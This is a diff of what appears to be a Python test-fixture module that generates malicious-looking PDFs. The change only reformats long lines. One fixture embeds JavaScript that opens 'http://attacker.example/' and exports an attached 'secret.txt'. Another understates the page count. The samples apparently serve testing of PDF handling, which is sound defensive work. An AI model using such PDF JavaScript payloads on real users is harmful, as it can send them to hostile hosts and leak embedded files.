@@ -52,7 +52,8 @@ def with_javascript_and_attachment() -> bytes:
         b"/EmbeddedFiles << /Names [(secret.txt) 7 0 R] >> >>"
     )
     objects += [
-        b"<< /S /JavaScript /JS (app.launchURL\\('http://attacker.example/'\\); this.exportDataObject\\({cName: 'x'}\\)) >>",
+        b"<< /S /JavaScript /JS (app.launchURL\\('http://attacker.example/'\\); "
+        b"this.exportDataObject\\({cName: 'x'}\\)) >>",
         b"<< /Type /Filespec /F (secret.txt) /EF << /F 8 0 R >> >>",
         stream(b"ATTACHED SECRET TEXT", b"/Type /EmbeddedFile"),
     ]
@@ -77,7 +78,8 @@ def understated_page_count(pages: int) -> bytes:
         stream(TEXT),
     ]
     objects += [
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
+        b"/Contents 4 0 R >>"
     ] * pages
     return raw_pdf(objects)
 
